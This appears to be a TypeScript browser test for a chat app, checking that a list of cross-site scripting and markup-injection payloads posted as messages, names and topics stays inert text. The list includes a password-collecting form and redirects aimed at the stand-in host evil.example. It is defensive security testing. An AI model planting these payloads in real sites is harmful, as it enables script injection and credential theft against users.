/** People who write markup wherever they may write: it stays text, nothing runs, and the policy is never even asked. */
import assert from "node:assert/strict";
import { Session } from "../server/session.ts";
import type { Person } from "./person.ts";
import { scene } from "./scene.ts";

const hit = "globalThis.hit=1";

const texts: readonly string[] = [
  `<script>${hit}</script>`,
  `</p><script>${hit}</script>`,
  `<img src=x onerror=${hit}>`,
  `<svg/onload=${hit}>`,
  `<svg><script>${hit}</script></svg>`,
  `<math><mtext></p><style><img src onerror=${hit}>`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<details open ontoggle=${hit}>`,
  `<a href="javascript:${hit}">click</a>`,
  `[click](javascript:${hit})`,
  `[click](  jAvAsCrIpT:${hit})`,
  `[click](data:text/html,<script>${hit}</script>)`,
  `![x](x"onerror="${hit})`,
  `![x](javascript:${hit})`,
  `<javascript:${hit}>`,
  `[x]: javascript:${hit}\n[x]`,
  `\`<img src=x onerror=${hit}>\``,
  `\`\`\`html"onmouseover="${hit}\n<script>${hit}</script>\n\`\`\``,
  `| <img src=x onerror=${hit}> |\n|---|\n| <script>${hit}</script> |`,
  `"><form action=https://evil.example><input name=password>`,
  `<base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>`,
  `{{constructor.constructor('${hit}')()}} \${${hit}}`,
  `\u202e<script>${hit}</script>`,
];

/** What no text may become. */
const forbidden =
  "script, img, iframe, object, embed, form, input, base, meta, link, style, details, math, video, audio";

async function nothing_ran(person: Person, where: string): Promise<void> {
  const found = await person.page.evaluate((selector) => {
    const elements = [...document.querySelectorAll(`article :is(${selector})`)];
    const handlers = [...document.querySelectorAll("*")].filter((element) =>
      [...element.attributes].some(({ name }) => name.startsWith("on")),
    );
    const links = [...document.querySelectorAll<HTMLAnchorElement>("a[href]")].map(({ href }) => href);
    return {
      hit: (globalThis as { hit?: number }).hit,
      elements: elements.map(({ outerHTML }) => outerHTML.slice(0, 100)),
      handlers: handlers.map(({ outerHTML }) => outerHTML.slice(0, 100)),
      links: links.filter((href) => !/^(https?|mailto):/.test(href)),
    };
  }, forbidden);
  assert.deepEqual(found, { hit: undefined, elements: [], handlers: [], links: [] }, where);
}

export const hostile_scenes = [
  scene(
    "markup in messages, names and topics stays text, and no policy is violated [req-43]",
    async (stage) => {
      const alice = await stage.member("alice_reads");
      const mallory = await Session.register(stage.server.origin, {
        username: "mallory_writes",
        password: "orchard lantern mallory",
        display_name: `<img src=x onerror=${hit}>`,
      });
      const made = await mallory.must("POST", "/rooms", {
        name: `<b onclick=${hit}>Trap</b>`,
        topic: texts[0],
      });
      const { room } = made as { room: { id: string } };
      for (const text of texts) await mallory.must("POST", `/rooms/${room.id}/messages`, { text });
      await alice.page.goto(`/r/${room.id}`);
      await alice.page
        .locator("article[data-key]")
        .nth(texts.length - 1)
        .waitFor();
      await nothing_ran(alice, "looking in");
      const shown = await alice.page.locator("main").innerText();
      for (const piece of ["<script>", "onerror=", "<iframe", "<base", "{{constructor"])
        assert.ok(shown.includes(piece), `${piece} is shown as it was typed`);
      await alice.page.goto("/rooms");
      await alice.page.getByText("Trap").first().waitFor();
      await nothing_ran(alice, "all rooms");
    },
  ),
];
